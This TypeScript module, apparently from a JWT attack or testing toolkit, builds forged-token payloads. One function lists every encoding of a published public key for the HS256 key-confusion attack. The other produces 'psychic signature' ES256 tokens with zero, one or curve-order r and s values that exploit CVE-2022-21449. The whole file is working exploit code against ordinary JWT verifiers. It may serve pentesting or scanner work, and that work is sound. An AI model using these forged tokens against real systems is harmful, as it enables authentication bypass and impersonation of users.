import { createPublicKey } from 'node:crypto'
import { encode } from './forge.js'
import type { Jwk } from './jwks.js'

/**
 * Everything that a published key can be written as. Each is known to everybody: where a verifier
 * takes one for the secret of HS256, everybody can sign.
 */
export function publicTexts(jwk: Jwk): (string | Buffer)[] {
  const key = createPublicKey({ key: jwk, format: 'jwk' })
  const pem = String(key.export({ type: 'spki', format: 'pem' }))
  const rsa = jwk['kty'] === 'RSA' ? [String(key.export({ type: 'pkcs1', format: 'pem' }))] : []
  const pems = [pem, ...rsa].flatMap((text) => [
    text,
    text.trimEnd(),
    ` ${text}`,
    `\n${text}`,
    text.replaceAll('\n', '\r\n'),
    text.replaceAll(/-----[^-]+-----|\n/gu, ''),
  ])
  const json = [JSON.stringify(jwk), JSON.stringify({ keys: [jwk] }), String(jwk['kid'])]
  const members = [jwk['x'], jwk['y'], jwk['n']].filter((part) => typeof part === 'string')
  const bytes = members.map((part) => Buffer.from(part, 'base64url'))
  return [...pems, ...json, ...members, ...bytes, key.export({ type: 'spki', format: 'der' })]
}

/** The order of P-256. */
const ORDER = Buffer.from('ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551', 'hex')

/** Signatures of ES256 that a verifier without checks takes for any message (CVE-2022-21449). */
export function psychicTokens(token: string): Record<string, string> {
  const [head = '', body = ''] = token.split('.')
  const zero = Buffer.alloc(32)
  const one = Buffer.concat([Buffer.alloc(31), Buffer.from([1])])
  const as = (r: Buffer, s: Buffer) => `${head}.${body}.${encode(Buffer.concat([r, s]))}`
  return {
    'r and s zero': as(zero, zero),
    'r zero': as(zero, one),
    's zero': as(one, zero),
    'r and s one': as(one, one),
    'r and s the order': as(ORDER, ORDER),
    'zeros in DER': `${head}.${body}.${encode(Buffer.from([0x30, 6, 2, 1, 0, 2, 1, 0]))}`,
    'r and s as long as DER would have them': as(Buffer.alloc(36), Buffer.alloc(36)),
  }
}
